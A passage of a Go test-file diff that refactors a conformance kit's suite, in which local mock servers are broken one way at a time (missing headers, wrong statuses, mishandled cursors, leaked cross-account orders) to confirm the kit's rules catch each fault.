+			if r.URL.Path == "/v1/shipments/shp_other_1/tracking" {
+				problemAnswer(a, 404, "not_found")
+			}
+		}}
+	}},
+	{name: "a linked order shown unlinked", caught: []string{"orders.fields", "orders.linked_shipment", "orders.retrieve"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			if strings.HasPrefix(r.URL.Path, "/v1/orders") && a.status == 200 {
+				a.body = bytes.ReplaceAll(a.body, []byte(`"shipment_id":"shp_ck_linked"`), []byte(`"shipment_id":null`))
+			}
+		}}
+	}},
+	{name: "an order retrieved unlike the one listed", caught: []string{"orders.retrieve"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			if isOrder(r) && a.status == 200 {
+				a.body = bytes.Replace(a.body, []byte(`"merchant_reference":"CK-ORDER-`), []byte(`"merchant_reference":"CK-ORDER-X`), 1)
+			}
+		}}
+	}},
+	{name: "the retrieve of a cancelled order answered 404", caught: []string{"orders.retrieve"}, broken: retrieveAnswered404("cancelled")},
+	{name: "the retrieve of an unfulfilled order answered 404", caught: []string{"orders.retrieve"}, broken: retrieveAnswered404("unfulfilled")},
+	{name: "cancelled spelt canceled on retrieve", caught: []string{"orders.retrieve", "orders.vocabulary"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			if isOrder(r) {
+				a.body = bytes.ReplaceAll(a.body, []byte(`"status":"cancelled"`), []byte(`"status":"canceled"`))
+			}
+		}}
+	}},
+	{name: "an unknown order served as a known one", caught: []string{"orders.unknown"}, broken: func(*env) brokenServer {
+		return brokenServer{request: func(r *http.Request) {
+			if r.URL.Path == "/v1/orders/"+unknownOrder {
+				rewritePath(r, "/v1/orders/ord_ck_0001")
+			}
+		}}
+	}},
+	{name: "order ids matched case-insensitively", caught: []string{"orders.exact_id"}, broken: func(*env) brokenServer {
+		return brokenServer{request: func(r *http.Request) {
+			if isOrder(r) {
+				rewritePath(r, strings.ToLower(r.URL.Path))
+			}
+		}}
+	}},
+	{name: "an extra member on orders", caught: []string{"orders.exact_fields"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			if a.status == 200 && strings.HasPrefix(r.URL.Path, "/v1/orders") {
+				a.body = bytes.ReplaceAll(a.body, []byte(`"merchant_reference":`), []byte(`"note":"gift","merchant_reference":`))
+			}
+		}}
+	}},
+	{name: "a default page of 25", caught: []string{"orders.default_limit"}, broken: func(*env) brokenServer {
+		return brokenServer{request: func(r *http.Request) {
 			if q := r.URL.Query(); isOrders(r) && !q.Has("limit") && !q.Has("cursor") {
-				q.Set("limit", "25")
-				r.URL.RawQuery = q.Encode()
+				rewriteQuery(r, func(q url.Values) { q.Set("limit", "25") })
 			}
-		}}, []string{"orders.default_limit"}},
-		{"a cursor on the last page", brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+		}}
+	}},
+	{name: "no maximum limit: limit=500 gives every order", caught: []string{"orders.limit_range", "orders.max_limit"}, broken: noMaximumLimit},
+	{name: "a cursor on the last page", caught: []string{"orders.pagination"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
 			if isOrders(r) && a.status == 200 {
 				rewriteJSON(a, func(v any) any {
-					page := v.(map[string]any)
-					if p := page["pagination"].(map[string]any); p["has_more"] == false {
+					if p := v.(map[string]any)["pagination"].(map[string]any); p["has_more"] == false {
 						p["next_cursor"] = "the-end"
 					}
-					return page
+					return v
 				})
 			}
-		}}, []string{"orders.pagination"}},
-		{"a malformed cursor answered 200", brokenServer{
+		}}
+	}},
+	{name: "an order repeated across pages", caught: []string{"orders.cursor_walk"}, broken: repeatAcrossPages},
+	{name: "a malformed cursor answered 200", caught: []string{"orders.malformed_cursor"}, broken: func(*env) brokenServer {
+		var issued sync.Map // the cursors the server issued
+		return brokenServer{
 			request: func(r *http.Request) {
 				if q := r.URL.Query(); isOrders(r) && q.Has("cursor") {
 					if _, ok := issued.Load(q.Get("cursor")); !ok {
-						q.Del("cursor")
-						r.URL.RawQuery = q.Encode()
+						rewriteQuery(r, func(q url.Values) { q.Del("cursor") })
 					}
 				}
 			},
@@ -11709,108 +11967,237 @@ func TestConformanceCatchesBrokenServers(t *testing.T) {
 					issued.Store(*page.Pagination.NextCursor, true)
 				}
 			},
-		}, []string{"orders.malformed_cursor"}},
-		{"an extra member on orders", brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
-			if a.status != 200 || !strings.HasPrefix(r.URL.Path, "/v1/orders") {
-				return
+		}
+	}},
+	{name: "a status filter ignored", caught: []string{"orders.filter_status"}, broken: func(*env) brokenServer {
+		return brokenServer{request: func(r *http.Request) {
+			if q := r.URL.Query(); isOrders(r) && !q.Has("cursor") && q.Has("status") {
+				rewriteQuery(r, func(q url.Values) { q.Del("status") })
 			}
-			rewriteJSON(a, func(v any) any {
-				note := func(o any) { o.(map[string]any)["note"] = "gift" }
-				if page, ok := v.(map[string]any)["data"].([]any); ok {
-					for _, o := range page {
-						note(o)
-					}
-				} else {
-					note(v)
-				}
-				return v
-			})
-		}}, []string{"orders.exact_fields"}},
-		{"a null location", brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
-			if isView(r) {
-				a.body = bytes.ReplaceAll(a.body, []byte(`"location":""`), []byte(`"location":null`))
+		}}
+	}},
+	{name: "created_from exclusive", caught: []string{"orders.filter_created"}, broken: func(*env) brokenServer {
+		return brokenServer{request: func(r *http.Request) {
+			if q := r.URL.Query(); isOrders(r) && q.Has("created_from") {
+				at, _ := parseTimestamp(q.Get("created_from"))
+				rewriteQuery(r, func(q url.Values) { q.Set("created_from", at.Add(time.Nanosecond).Format(time.RFC3339Nano)) })
 			}
-		}}, []string{"tracking.view_fields"}},
-		{"another account's order shown", brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
-			if r.Method == http.MethodPost && r.URL.Path == "/v1/test_helpers/sandboxes" && a.status == 201 {
-				var made struct{ Keys []struct{ Key string } }
-				json.Unmarshal(a.body, &made)
-				for _, k := range made.Keys {
-					sandboxKeys.Store(k.Key, true)
-				}
+		}}
+	}},
+	{name: "a cursor not bound to created_from and created_to", caught: []string{"orders.cursor_filters"}, broken: cursorUnboundToCreated},
+	{name: "orders oldest first", caught: []string{"orders.order"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			if isOrders(r) && a.status == 200 {
+				rewriteJSON(a, func(v any) any { slices.Reverse(v.(map[string]any)["data"].([]any)); return v })
 			}
-			if r.Method != http.MethodGet || !strings.HasPrefix(r.URL.Path, "/v1/orders/") || a.status != 404 {
-				return
-			}
-			sandboxKeys.Range(func(key, _ any) bool { // a key of any account: the first that shows it
-				again := httptest.NewRecorder()
-				leak.h.ServeHTTP(again, newRequest(http.MethodGet, r.URL.Path, key.(string)))
-				if again.Code == 200 {
-					a.status, a.header, a.body = 200, again.Header(), again.Body.Bytes()
-					return false
-				}
-				return true
-			})
-		}}, []string{"auth.other_account"}},
-		{"a wrong method answered 404", brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+		}}
+	}},
+	{name: "a wrong method answered 404", caught: []string{"http.method_not_allowed"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
 			if a.status == 405 {
-				a.status = 404
-				a.header.Del("Allow")
-				rewriteJSON(a, func(v any) any {
-					p := v.(map[string]any)
-					p["status"], p["title"], p["code"] = 404, "Not Found", "route_not_found"
-					return p
-				})
+				problemAnswer(a, 404, "route_not_found")
 			}
-		}}, []string{"http.method_not_allowed"}},
-		{"a body past 256 KiB read", brokenServer{request: func(r *http.Request) {
+		}}
+	}},
+	{name: "a body past 256 KiB read", caught: []string{"http.body_too_large"}, broken: func(*env) brokenServer {
+		return brokenServer{request: func(r *http.Request) {
 			if r.ContentLength > maxBodyBytes {
 				io.Copy(io.Discard, r.Body)
 				r.Body, r.ContentLength = http.NoBody, 0
 			}
-		}}, []string{"http.body_too_large"}},
-		{"errors in plain text", brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+		}}
+	}},
+	{name: "errors in plain text", caught: []string{"errors.codes", "errors.problem_json", "orders.limit_range"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
 			if a.status >= 400 {
 				a.header.Set("Content-Type", "text/plain; charset=utf-8")
 				a.body = []byte(http.StatusText(a.status) + "\n")
 			}
-		}}, []string{"errors.codes", "errors.problem_json", "orders.limit_range"}},
-		{"orders oldest first", brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
-			if isOrders(r) && a.status == 200 {
-				rewriteJSON(a, func(v any) any {
-					page := v.(map[string]any)
-					data := page["data"].([]any)
-					slices.Reverse(data)
-					return page
+		}}
+	}},
+	{name: "codes renamed", caught: []string{"errors.codes"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			a.body = bytes.ReplaceAll(a.body, []byte(`"code":"not_found"`), []byte(`"code":"missing"`))
+		}}
+	}},
+	{name: "no Request-Id", caught: []string{"http.request_id"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) { a.header.Del("Request-Id") }}
+	}},
+	{name: "no Cache-Control", caught: []string{"http.no_store"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) { a.header.Del("Cache-Control") }}
+	}},
+	{name: "no rate limit", full: true, rate: -1, caught: []string{"limits.rate_limit"}, broken: func(*env) brokenServer { return brokenServer{} }},
+	{name: "the RateLimit fields missing", full: true, caught: []string{"limits.rate_limit_headers"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			if a.status != 429 {
+				a.header.Del("RateLimit")
+				a.header.Del("RateLimit-Policy")
+			}
+		}}
+	}},
+	{name: "RateLimit fields only on GET /orders", full: true, caught: []string{"limits.rate_limit_headers"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			if !isOrders(r) {
+				a.header.Del("RateLimit")
+				a.header.Del("RateLimit-Policy")
+			}
+		}}
+	}},
+	{name: "garbage in the RateLimit fields", full: true, caught: []string{"limits.rate_limit_headers"}, broken: func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			if a.header.Get("RateLimit") != "" && isView(r) {
+				a.header.Set("RateLimit", "plenty left, honest")
+			}
+		}}
+	}},
+}
+
+// retrieveAnswered404 is a break that answers the retrieve of an order of status 404.
+func retrieveAnswered404(status string) func(*env) brokenServer {
+	return func(*env) brokenServer {
+		return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+			if isOrder(r) && a.status == 200 && bytes.Contains(a.body, []byte(`"status":"`+status+`"`)) {
+				problemAnswer(a, 404, "not_found")
+			}
+		}}
+	}
+}
+
+// noMaximumLimit is a server with no maximum limit: limit=500 gives every order (the real
+// handler's pages of 100, joined).
+func noMaximumLimit(e *env) brokenServer {
+	return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+		limit, err := strconv.Atoi(r.URL.Query().Get("limit"))
+		if !isOrders(r) || err != nil || limit <= 100 || r.URL.Query().Has("cursor") {
+			return
+		}
+		var all []any
+		for target := "/v1/orders?limit=100"; target != ""; {
+			rec := httptest.NewRecorder()
+			e.h.ServeHTTP(rec, newRequest(http.MethodGet, target, strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")))
+			var page struct {
+				Data       []any
+				Pagination struct {
+					NextCursor *string `json:"next_cursor"`
+				}
+			}
+			json.Unmarshal(rec.Body.Bytes(), &page)
+			all, target = append(all, page.Data...), ""
+			if page.Pagination.NextCursor != nil {
+				target = "/v1/orders?limit=100&cursor=" + url.QueryEscape(*page.Pagination.NextCursor)
+			}
+		}
+		a.status, a.header = 200, http.Header{"Content-Type": {"application/json"}, "Request-Id": {"req_x"}, "Cache-Control": {"no-store"}}
+		a.body, _ = json.Marshal(map[string]any{"data": all, "pagination": map[string]any{"limit": limit, "next_cursor": nil, "has_more": false}})
+	}}
+}
+
+// repeatAcrossPages shows the previous page's last order again at the head of the next.
+func repeatAcrossPages(*env) brokenServer {
+	var lastOfPage sync.Map
+	return brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+		if !isOrders(r) || a.status != 200 {
+			return
+		}
+		q := r.URL.Query()
+		cursor := q.Get("cursor")
+		q.Del("cursor")
+		rewriteJSON(a, func(v any) any {
+			page := v.(map[string]any)
+			data := page["data"].([]any)
+			if prev, ok := lastOfPage.Load(q.Encode()); ok && cursor != "" {
+				data = append([]any{prev}, data...)
+			}
+			if len(data) > 0 {
+				lastOfPage.Store(q.Encode(), data[len(data)-1])
+			}
+			page["data"] = data
+			return page
+		})
+	}}
+}
+
+// cursorUnboundToCreated is a server whose cursors bind the status but not created_from and
+// created_to: a cursor sent with other ones is read with those it was issued with.
+func cursorUnboundToCreated(*env) brokenServer {
+	var issuedFor sync.Map // cursor -> the created filters of the page that issued it
+	return brokenServer{
+		request: func(r *http.Request) {
+			q := r.URL.Query()
+			if f, ok := issuedFor.Load(q.Get("cursor")); ok && isOrders(r) {
+				filters := f.([2]string)
+				rewriteQuery(r, func(q url.Values) {
+					q.Del("created_from")
+					q.Del("created_to")
+					if filters[0] != "" {
+						q.Set("created_from", filters[0])
+					}
+					if filters[1] != "" {
+						q.Set("created_to", filters[1])
+					}
 				})
 			}
-		}}, []string{"orders.order"}},
-		{"no Request-Id", brokenServer{answer: func(r *http.Request, a *brokenAnswer) { a.header.Del("Request-Id") }}, []string{"http.request_id"}},
-		{"no Cache-Control", brokenServer{answer: func(r *http.Request, a *brokenAnswer) { a.header.Del("Cache-Control") }}, []string{"http.no_store"}},
-		{"a status outside the vocabulary", brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
-			if isView(r) {
-				a.body = bytes.ReplaceAll(a.body, []byte(`"status":"delivered"`), []byte(`"status":"DELIVERED"`))
+		},
+		answer: func(r *http.Request, a *brokenAnswer) {
+			var page struct {
+				Pagination struct {
+					NextCursor *string `json:"next_cursor"`
+				}
 			}
-		}}, []string{"tracking.vocabulary"}},
-	} {
-		t.Run(caseName(tt.name), func(t *testing.T) {
+			if q := r.URL.Query(); isOrders(r) && json.Unmarshal(a.body, &page) == nil && page.Pagination.NextCursor != nil {
+				issuedFor.Store(*page.Pagination.NextCursor, [2]string{q.Get("created_from"), q.Get("created_to")})
+			}
+		},
+	}
+}
+
+// breakRun runs the kit against the server of b, and returns its report.
+func breakRun(t *testing.T, b kitBreak) (int, kitReport, string) {
+	rate := -1
+	if b.full {
+		rate = cmp.Or(b.rate, 100)
+	}
+	e := newEnv(t, envOptions{rate: rate, wall: b.full, quiet: true})
+	broken := b.broken(e)
+	args := []string{"-key", "sk_test_sandbox_all", "-format", "json"}
+	if b.world == "discovered" { // no sandbox made: the key of acct_other, whose order is linked to a shipment
+		inner := broken.request
+		broken.request = func(r *http.Request) {
+			if isMaking(r) {
+				rewritePath(r, "/v1/nowhere")
+			}
+			if inner != nil {
+				inner(r)
+			}
+		}
+		args = []string{"-key", "sk_test_other_all", "-alt-key", "sk_test_sandbox_all", "-format", "json"}
+	}
+	if b.full {
+		args = append(args, "-mode", "full")
+	}
+	status, rep, out, errs := kitRun(t, t.Context(), nil, append([]string{"-base-url", kitServer(t, e, broken)}, args...)...)
+	if want := cmp.Or(b.world, "own"); rep.World != want {
+		t.Fatalf("world %s, want %s\n%s%s", rep.World, want, out, errs)
+	}
+	if n := e.srv.registry.count(e.srv.now()); n != 0 {
+		t.Errorf("%d of the kit's sandboxes left", n)
+	}
+	return status, rep, out
+}
+
+// TestConformanceCatchesBrokenServers: the kit against the sandbox, then against the
+// sandbox broken in one way at a time: each break is caught by its rule, and only by the
+// rules that depend on it, and the run fails (exit 1) exactly when a MUST rule is among them.
+func TestConformanceCatchesBrokenServers(t *testing.T) {
+	t.Parallel()
+	for _, b := range kitBreaks {
+		t.Run(caseName(b.name), func(t *testing.T) {
 			t.Parallel()
-			e := newEnv(t, envOptions{rate: -1, quiet: true})
-			if tt.name == "another account's order shown" {
-				leak.h = e.h
-			}
-			base := kitServer(t, e, tt.broken)
-			status, rep, out, _ := kitRun(t, t.Context(), nil, "-base-url", base, "-key", "sk_test_sandbox_all", "-format", "json")
-			if rep.World != "own" || rep.Mode != "safe" {
-				t.Fatalf("world %s, mode %s: %s", rep.World, rep.Mode, out)
-			}
+			status, rep, out := breakRun(t, b)
 			failed := rep.results("fail")
 			slices.Sort(failed)
-			if !slices.Equal(failed, tt.caught) {
-				t.Errorf("failed %v, want %v\n%s", failed, tt.caught, out)
-			}
-			if skipped := rep.results("skip"); !slices.Equal(skipped, []string{"limits.rate_limit", "limits.rate_limit_headers"}) {
-				t.Errorf("skipped %v: in safe mode, the two rules that load the server", skipped)
+			if !slices.Equal(failed, b.caught) {
+				t.Errorf("failed %v, want %v\n%s", failed, b.caught, out)
 			}
 			wantStatus := 0
 			for _, r := range rep.Rules {
@@ -11821,71 +12208,57 @@ func TestConformanceCatchesBrokenServers(t *testing.T) {
 			if status != wantStatus {
 				t.Errorf("exit status %d, want %d", status, wantStatus)
 			}
+			if b.world == "" && !b.full && !slices.Equal(rep.results("skip"), []string{"limits.rate_limit", "limits.rate_limit_headers"}) {
+				t.Errorf("skipped %v: in safe mode, in its own world, only the two rules that load the server", rep.results("skip"))
+			}
 		})
 	}
 }
 
-// TestConformanceDiscoversWhereNoSandboxIsMade: against a server that makes no sandbox (any
-// answer but 201), the kit reads what its keys read, judges what that holds, skips each rule
-// without its data, saying why, and writes nothing but the one sandbox it asked for: its
-// 405 requests carry no body and name ids no server holds.
-func TestConformanceDiscoversWhereNoSandboxIsMade(t *testing.T) {
+// TestEveryRuleIsCaughtFailing: the rules the broken servers are caught by are the whole
+// catalogue (a rule no broken server fails proves nothing), and the twenty servers that once
+// passed every rule, and the six kinds of break the kit must see, are among the breaks.
+func TestEveryRuleIsCaughtFailing(t *testing.T) {
 	t.Parallel()
-	e := newEnv(t, envOptions{rate: -1, quiet: true, seed: 150})
-	var mu sync.Mutex
-	var writes []string
-	base := kitServer(t, e, brokenServer{request: func(r *http.Request) {
-		if r.Method != http.MethodGet {
-			mu.Lock()
-			writes = append(writes, fmt.Sprintf("%s %s %d", r.Method, r.URL.Path, r.ContentLength))
-			mu.Unlock()
-		}
-		if r.URL.Path == "/v1/test_helpers/sandboxes" {
-			r.URL.Path = "/v1/nowhere" // no test helper here: 404
-		}
-	}})
-	status, rep, out, _ := kitRun(t, t.Context(), nil, "-base-url", base, "-format", "json", "-key", "sk_test_sandbox_all", "-alt-key", "sk_test_other_all",
-		"-tracking-key", "sk_test_sandbox_tracking", "-orders-key", "sk_test_sandbox_orders", "-expired-key", "sk_test_sandbox_expired", "-revoked-key", "sk_test_sandbox_revoked")
-	if status != 0 || rep.World != "discovered" || len(rep.results("fail")) != 0 {
-		t.Fatalf("status %d, world %s, failed %v\n%s", status, rep.World, rep.results("fail"), out)
-	}
-	reasons := map[string]string{}
-	for _, r := range rep.Rules {
-		if r.Reason != nil {
-			reasons[r.ID] = *r.Reason
+	caught := map[string]bool{}
+	names := map[string]bool{}
+	for _, b := range kitBreaks {
+		names[b.name] = true
+		for _, id := range b.caught {
+			caught[id] = true
 		}
 	}
-	for id, want := range map[string]string{
-		"tracking.no_offset": "needs the kit's own world", "tracking.utc_across_dst": "needs the kit's own world", "tracking.primary_number_only": "needs the kit's own world",
-		"tracking.ambiguous_number": "needs the kit's own world", "tracking.view_fields": "no shipment known", "orders.linked_shipment": "no order read is linked",
-		"limits.rate_limit": "run with -mode full",
+	var want []string
+	for _, r := range kitRules {
+		want = append(want, r.id)
+	}
+	if got := slices.Sorted(maps.Keys(caught)); !slices.Equal(got, slices.Sorted(slices.Values(want))) {
+		t.Errorf("the breaks catch %v\nthe catalogue is %v", got, want)
+	}
+	for _, name := range []string{
+		"an unknown key served on the tracking operations", "an expired key served on the tracking operations", "a revoked key served on the tracking operations",
+		"tracking ids and numbers matched case-insensitively", "order ids matched case-insensitively", "every lookup by number a 404", "events of one instant reversed",
+		"an event the kit never sent shown", "descriptions cut to 18 characters", "a view whose status is always in_transit", "a reference lower-cased",
+		"a view with the member status written twice", "the retrieve of a cancelled order answered 404", "the retrieve of an unfulfilled order answered 404",
+		"cancelled spelt canceled on retrieve", "a cursor not bound to created_from and created_to", "an order linked to a shipment that answers 404",
+		"RateLimit fields only on GET /orders", "garbage in the RateLimit fields", "no maximum limit: limit=500 gives every order",
+		// the kinds of break the kit must see
+		"a renamed member: timestamp written time", "an order retrieved unlike the one listed", "a status outside the vocabulary", "the RateLimit fields missing",
 	} {
-		if !strings.Contains(reasons[id], want) {
-			t.Errorf("%s: reason %q, want it to say %q", id, reasons[id], want)
-		}
-	}
-	for _, id := range []string{"orders.cursor_walk", "orders.filter_status", "orders.filter_created", "orders.default_limit", "auth.other_account", "auth.expired_key", "auth.scope_orders", "http.method_not_allowed"} {
-		if !slices.Contains(rep.results("pass"), id) {
-			t.Errorf("%s not judged on the discovered orders: %v", id, reasons[id])
-		}
-	}
-	for _, w := range writes {
-		if w != "POST /v1/test_helpers/sandboxes "+strconv.Itoa(len(w)) && !strings.HasSuffix(w, " 0") && !strings.HasSuffix(w, " -1") && !strings.HasPrefix(w, "POST /v1/test_helpers/sandboxes ") {
-			t.Errorf("the kit wrote %s", w)
-		}
-		if strings.Contains(w, "ord_sbx") || strings.Contains(w, "ord_seed") || strings.Contains(w, "shp_sbx") {
-			t.Errorf("a 405 request named an id the server holds: %s", w)
+		if !names[name] {
+			t.Errorf("no break %q", name)
 		}
 	}
 }
 
 // TestConformanceSelfCheck: go run . check without -base-url starts this sandbox in its own
 // process, makes its world, judges every rule in full mode, passes every one, and deletes
-// its sandboxes; the reports in their three formats say so.
+// its sandboxes, within 300 requests besides the burst; the text report's first and last
+// lines say so.
 func TestConformanceSelfCheck(t *testing.T) {
 	t.Parallel()
 	status, rep, out, errs := kitRun(t, t.Context(), nil, "-format", "json")
-	if status != 0 || rep.Summary.Passed != len(conformanceRules) || rep.Mode != "full" || rep.World != "own" || rep.Profile != "sandbox" || len(rep.Warnings) != 0 {
+	if status != 0 || rep.Summary.Passed != len(kitRules) || rep.Mode != "full" || rep.World != "own" || rep.Profile != "sandbox" || len(rep.Warnings) != 0 {
 		t.Fatalf("the self-check: status %d, %+v, stderr %s\n%s", status, rep.Summary, errs, out)
 	}
 	for _, r := range rep.Rules {
@@ -11896,20 +12269,21 @@ func TestConformanceSelfCheck(t *testing.T) {
 	if rep.Summary.Requests > 300+maxBurst { // the burst sends until a 429: more on a machine too busy to outrun the refill
 		t.Errorf("the self-check sent %d requests, want at most 300 besides the burst's %d", rep.Summary.Requests, maxBurst)
 	}
-	if _, safe, _, _ := kitRun(t, t.Context(), nil, "-format", "json", "-mode", "safe"); safe.Summary.Requests > 300 || safe.Summary.Evaluated != len(conformanceRules)-2 {
+	if _, safe, _, _ := kitRun(t, t.Context(), nil, "-format", "json", "-mode", "safe"); safe.Summary.Requests > 300 || safe.Summary.Evaluated != len(kitRules)-2 {
 		t.Errorf("the catalogue but the burst: %+v, want at most 300 requests", safe.Summary)
 	}
-	// The text report: a first line, a line a rule, the summary.
 	status, _, text, _ := kitRun(t, t.Context(), nil, "-rules", "orders.*")
 	lines := strings.Split(strings.TrimSpace(text), "\n")
+	n := len(rulesNamed("orders.*"))
 	if status != 0 || !regexp.MustCompile(`^Conformance of http://127\.0\.0\.1:[0-9]+/v1 \(profile sandbox, mode full, world own\)$`).MatchString(lines[0]) ||
-		lines[len(lines)-1] != "16 rules: 16 passed, 0 failed (0 MUST), 0 skipped, 0 expected; evaluated 16 of 16" || !strings.HasPrefix(lines[1], "PASS  orders.fields  ") {
+		lines[len(lines)-1] != fmt.Sprintf("%d rules: %d passed, 0 failed (0 MUST), 0 skipped, 0 expected, 0 stale; evaluated %d of %d", n, n, n, n) || !strings.HasPrefix(lines[1], "PASS  orders.fields  ") {
 		t.Errorf("the text report of orders.*:\n%s", text)
 	}
 }
 
 // TestTheCatalogueIsOneTable: docs/conformance.md lists the catalogue's rules, in its order,
-// each with its level (its level with -profile domain_adapter, when another) and title.
+// each with its level (its level with -profile domain_adapter, when another) and title; each
+// rule has a well-formed id, a judge and the words it rests on.
 func TestTheCatalogueIsOneTable(t *testing.T) {
 	t.Parallel()
 	page, err := os.ReadFile("docs/conformance.md")
@@ -11918,7 +12292,7 @@ func TestTheCatalogueIsOneTable(t *testing.T) {
 	}
 	rows := regexp.MustCompile("(?m)^\\| `([a-z_]+\\.[a-z_]+)` \\| ([A-Z]+(?: \\(SHOULD with domain_adapter\\))?) \\| (.*) \\|$").FindAllStringSubmatch(string(page), -1)
 	var want, got []string
-	for _, r := range conformanceRules {
+	for _, r := range kitRules {
 		level := string(r.level)
 		if r.adapter != "" {
 			level += " (" + string(r.adapter) + " with domain_adapter)"
@@ -11932,9 +12306,9 @@ func TestTheCatalogueIsOneTable(t *testing.T) {
 		t.Errorf("docs/conformance.md's rules:\n%s\nthe catalogue:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
 	}
 	ids := map[string]bool{}
-	for _, r := range conformanceRules {
+	for _, r := range kitRules {
 		if ids[r.id] || !regexp.MustCompile(`^[a-z]+\.[a-z_]+$`).MatchString(r.id) || r.judge == nil || r.spec == "" {
-			t.Errorf("rule %q: a duplicate, a malformed id, or no check or spec", r.id)
+			t.Errorf("rule %q: a duplicate, a malformed id, or no judge or spec", r.id)
 		}
 		ids[r.id] = true
 	}
@@ -11942,16 +12316,17 @@ func TestTheCatalogueIsOneTable(t *testing.T) {
 
 // TestConformanceSelectsRulesAndExpectations: -rules judges and reports the rules it names
 // (the rules that judge every answer judge those rules' answers, or, named alone, every
-// rule's); -expect makes a failure it names expected (exit 0), and says of a pass it names
-// that the expectation can go; -strict fails a SHOULD rule's failure.
+// rule's); -expect makes a failure it names expected (exit 0); a pass it names is stale,
+// counted, and fails the run, its reason naming the entry to remove; an id's entry wins
+// over a prefix, and the longer prefix over the shorter; -strict fails a SHOULD rule's
+// failure.
 func TestConformanceSelectsRulesAndExpectations(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t, envOptions{rate: -1, quiet: true})
 	base := kitServer(t, e, brokenServer{
 		request: func(r *http.Request) { // a default page of 25
 			if q := r.URL.Query(); isOrders(r) && !q.Has("limit") && !q.Has("cursor") {
-				q.Set("limit", "25")
-				r.URL.RawQuery = q.Encode()
+				rewriteQuery(r, func(q url.Values) { q.Set("limit", "25") })
 			}
 		},
 		answer: func(r *http.Request, a *brokenAnswer) { // and no Cache-Control on the tracking views
@@ -11960,59 +12335,104 @@ func TestConformanceSelectsRulesAndExpectations(t *testing.T) {
 			}
 		},
 	})
-	kit := func(args ...string) (int, kitReport, string) {
+	kit := func(t *testing.T, args ...string) (int, kitReport, string) {
 		status, rep, out, errs := kitRun(t, t.Context(), nil, append([]string{"-base-url", base, "-key", "sk_test_sandbox_all", "-format", "json"}, args...)...)
 		return status, rep, out + errs
 	}
-	status, rep, out := kit("-rules", "orders.default_limit,http.*")
-	if status != 1 || strings.Join(rep.results("fail"), " ") != "orders.default_limit" || rep.Summary.Total != 5 {
-		t.Errorf("-rules orders.default_limit,http.*: %d %v\n%s", status, rep.results("fail"), out)
-	}
-	status, rep, out = kit("-rules", "http.no_store") // alone: it judges every rule's answers
-	if status != 0 || strings.Join(rep.results("fail"), " ") != "http.no_store" || rep.Summary.Total != 1 {
-		t.Errorf("-rules http.no_store: %d %v\n%s", status, rep.results("fail"), out)
-	}
-	if status, _, _ = kit("-rules", "http.no_store", "-strict"); status != 1 {
-		t.Errorf("-strict with a SHOULD rule failed: exit status %d", status)
-	}
-	expect := filepath.Join(t.TempDir(), "expect.json")
-	os.WriteFile(expect, []byte(`{"orders.default_limit":"live pages 25","orders.max_limit":"thought to differ"}`), 0o644)
-	status, rep, out = kit("-rules", "orders.default_limit,orders.max_limit", "-expect", expect)
-	got := map[string]string{}
-	for _, r := range rep.Rules {
-		got[r.ID] = r.Result + ": " + *r.Reason
-	}
-	if status != 0 || got["orders.default_limit"] != "expected: live pages 25" || got["orders.max_limit"] != "pass: expected to fail (thought to differ), but passes: the expectation can go" || rep.Summary.Expected != 1 {
-		t.Errorf("-expect: %d %v\n%s", status, got, out)
-	}
-	var junit bytes.Buffer
-	runCheck(t.Context(), []string{"-base-url", base, "-key", "sk_test_sandbox_all", "-format", "junit", "-rules", "orders.default_limit,orders.max_limit,tracking.no_offset", "-expect", expect}, func(string) string { return "" }, &junit, io.Discard)
-	var suite struct {
-		Name  string `xml:"name,attr"`
-		Cases []struct {
-			Class   string `xml:"classname,attr"`
-			Name    string `xml:"name,attr"`
-			Failure *struct {
-				Message string `xml:"message,attr"`
-			} `xml:"failure"`
-			Skipped *struct {
-				Message string `xml:"message,attr"`
-			} `xml:"skipped"`
-		} `xml:"testcase"`
-	}
-	if err := xml.Unmarshal(junit.Bytes(), &suite); err != nil || suite.Name != "conformance" || len(suite.Cases) != 3 {
-		t.Fatalf("junit: %v\n%s", err, junit.String())
-	}
-	if c := suite.Cases[0]; c.Class != "tracking" || c.Name != "tracking.no_offset" || c.Failure != nil || c.Skipped != nil { // the catalogue's order
-		t.Errorf("a pass in JUnit: %+v", c)
-	}
-	if c := suite.Cases[1]; c.Class != "orders" || c.Name != "orders.default_limit" || c.Skipped == nil || c.Skipped.Message != "expected failure: live pages 25" {
-		t.Errorf("an expected failure in JUnit: %+v", c)
-	}
+	t.Run("rules", func(t *testing.T) {
+		status, rep, out := kit(t, "-rules", "orders.default_limit,http.*")
